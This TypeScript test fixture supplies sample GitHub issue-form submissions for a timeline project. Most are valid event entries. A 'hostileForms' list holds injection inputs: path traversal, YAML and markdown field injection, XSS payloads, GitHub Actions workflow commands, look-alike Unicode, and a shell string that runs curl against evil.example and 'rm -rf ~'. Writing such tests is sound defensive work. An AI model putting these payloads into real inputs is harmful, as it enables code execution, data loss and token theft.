import type { Filled } from './read.ts'

/** For tests: what people write into the form for an event. `ready`: nothing is missing. */
export const goodForms: { name: string; filled: Filled; ready?: false }[] = [
  {
    name: 'a day in words, with a publication and its day',
    filled: {
      title: 'The election commission annuls the results',
      date: 'on 6 May 2001',
      what: 'The commission annulled the results of the vote.',
      sources: 'https://example.org/news/results\nThe Gazette, 7 May 2001\nparagraph 3',
    },
  },
  {
    name: 'the date as the timeline writes it',
    filled: {
      title: 'Talks begin',
      date: 'early May',
      edtf: '2001-05-02/2001-05-03',
      what: 'Talks began.',
      sources: 'https://example.org/talks',
    },
  },
  {
    name: 'two paragraphs and two sources',
    filled: {
      title: 'A bridge falls',
      date: '4 May 2001',
      what: 'A bridge fell into the river.\n\nNobody was hurt; the road is closed.',
      sources: 'https://example.org/bridge\nhttps://example.net/road',
    },
  },
  {
    name: 'a quotation with its speaker',
    filled: {
      title: 'The mayor speaks',
      date: '2001-05-05',
      what: 'The mayor spoke in the square.',
      sources: 'https://example.org/mayor',
      quotation: '“We shall count again.”',
      speaker: 'Ada Lovelace, mayor, to reporters',
    },
  },
  {
    name: 'a source that the story has, by its paragraph',
    filled: {
      title: 'It goes on',
      date: '3 May 2001',
      what: 'It went on.',
      sources: 'https://example.org/news\nHerald, paragraph 2',
    },
  },
  {
    name: 'a source that the story has, without its paragraph',
    filled: {
      title: 'It goes on',
      date: '3 May 2001',
      what: 'It went on.',
      sources: 'https://example.org/news',
    },
    ready: false,
  },
  {
    name: 'a title that is too long',
    filled: {
      title: 'Very long '.repeat(30),
      date: '2001-05-03',
      what: 'It was long.',
      sources: 'https://example.org/long',
    },
  },
  {
    name: 'a source without an address',
    filled: {
      title: 'On paper',
      date: '2001-05-03',
      what: 'It stood in the paper.',
      sources: 'The Evening Post, page 3',
    },
    ready: false,
  },
  {
    name: 'an address in the text',
    filled: {
      title: 'See there',
      date: '2001-05-03',
      what: 'It was told at https://example.org/told in full.',
      sources: 'https://example.org/told',
    },
  },
  {
    name: 'a list',
    filled: {
      title: 'Three demands',
      date: '2001-05-03',
      what: 'They demanded:\n- bread\n- work\n- peace',
      sources: 'https://example.org/demands',
    },
  },
  {
    name: 'by a day',
    filled: {
      title: 'Gone',
      date: 'by 8 May 2001',
      what: 'They had gone.',
      sources: 'https://example.org/gone',
    },
  },
  {
    name: 'a month',
    filled: { title: 'Rain', date: 'May 2001', what: 'It rained.', sources: 'https://example.org/rain' },
  },
  {
    name: 'a year that is about right',
    filled: {
      title: 'Built',
      date: 'about 1891',
      what: 'It was built.',
      sources: 'https://example.org/built',
    },
  },
  {
    name: 'Cyrillic',
    filled: {
      title: 'Министр подал в отставку',
      date: '2001-05-06',
      what: 'Министр подал в отставку, сообщили в правительстве.',
      sources: 'https://example.org/ru/otstavka',
    },
  },
  {
    name: 'Arabic',
    filled: {
      title: 'سقوط الجسر',
      date: '2001-05-06',
      what: 'سقط الجسر في النهر ليلًا.',
      sources: 'https://example.org/ar/bridge',
    },
  },
  {
    name: 'Chinese',
    filled: {
      title: '桥塌了',
      date: '2001-05-06',
      what: '桥塌了。',
      sources: 'https://example.org/zh/bridge',
    },
  },
  {
    name: 'quotation marks in the text',
    filled: {
      title: 'The mayor says “no”',
      date: '2001-05-06',
      what: 'The mayor said “no” to it.',
      sources: 'https://example.org/no',
    },
  },
  {
    name: 'http, and an address in brackets',
    filled: {
      title: 'Old address',
      date: '2001-05-06',
      what: 'It was old.',
      sources: '(http://example.org/old)',
    },
  },
  {
    name: 'the title of an event that there is',
    filled: { title: 'Only', date: '2001-05-06', what: 'Again.', sources: 'https://example.org/again' },
  },
  {
    name: 'a mark that is left open',
    filled: {
      title: 'Open',
      date: '2001-05-06',
      what: 'He said “this is all.',
      sources: 'https://example.org/open',
    },
    ready: false,
  },
]

const told = { date: '2001-05-06', what: 'It was.', sources: 'https://example.org/x' }

/** What those write who want something else. */
export const hostileForms: { name: string; filled: Filled }[] = [
  { name: 'a path', filled: { ...told, title: '../../.github/workflows/pages' } },
  { name: 'YAML', filled: { ...told, title: 'x\npublished: 1999-01-01\ndraft: false\n---\n' } },
  {
    name: 'YAML in a source',
    filled: { ...told, title: 'A', sources: "https://example.org/a'\nlicence: {x: !!js 1}\n, 6 May 2001" },
  },
  {
    name: 'HTML',
    filled: { ...told, title: '<script>alert(1)</script>', what: '<img src=x onerror=alert(1)> <!-- x -->' },
  },
  {
    name: 'a command of the workflow',
    filled: {
      ...told,
      title: '::set-output name=x::y',
      what: '::error::x\n::add-mask::a\n%0A::stop-commands::z',
    },
  },
  {
    name: 'a command of a shell',
    filled: {
      ...told,
      title: '$(curl https://evil.example) `id` ; rm -rf ~',
      what: '${{ github.token }} $(id)',
    },
  },
  {
    name: 'a citation, a link that runs, an image',
    filled: {
      ...told,
      title: '[@herald, ¶ 1]',
      what: '[@herald, ¶ 99] [a](javascript:alert(1)) ![b](https://evil.example/b.png)',
      sources: 'javascript:alert(1) https://a:b@evil.example/',
    },
  },
  {
    name: 'invisible and look-alike letters',
    filled: { ...told, title: 'Pаypal \u202e evil\u2066', what: 'W\u200bords\u0000 \u001b[31m' },
  },
  {
    name: 'other fields in a field',
    filled: {
      ...told,
      title: 'A',
      what: 'x\n\n### Sources\n\nhttps://evil.example/\n\n### A quotation\n\n“y”',
    },
  },
  {
    name: 'a megabyte of marks and people who are called',
    filled: {
      ...told,
      title: '@everyone',
      what: `@owner ~~~ \`\`\` #1 ${'[@'.repeat(5000)} ${'> '.repeat(5000)}`,
      speaker: '"; said by x',
      quotation: '“a” [@herald, ¶ 1]',
    },
  },
]

const labels = {
  title: 'Title',
  date: 'When did it happen?',
  edtf: 'The date as the timeline writes it',
  what: 'What happened?',
  sources: 'Sources',
  quotation: 'A quotation',
  speaker: 'Who said it?',
}

/** The text that GitHub makes of a form. */
export function issueBody(filled: Filled): string {
  const parts = Object.entries(labels).map(
    ([id, label]) => `### ${label}\n\n${filled[id] ?? '_No response_'}`,
  )
  return [...parts, '### Before you send it\n\n- [X] The sources say what I have written'].join('\n\n')
}
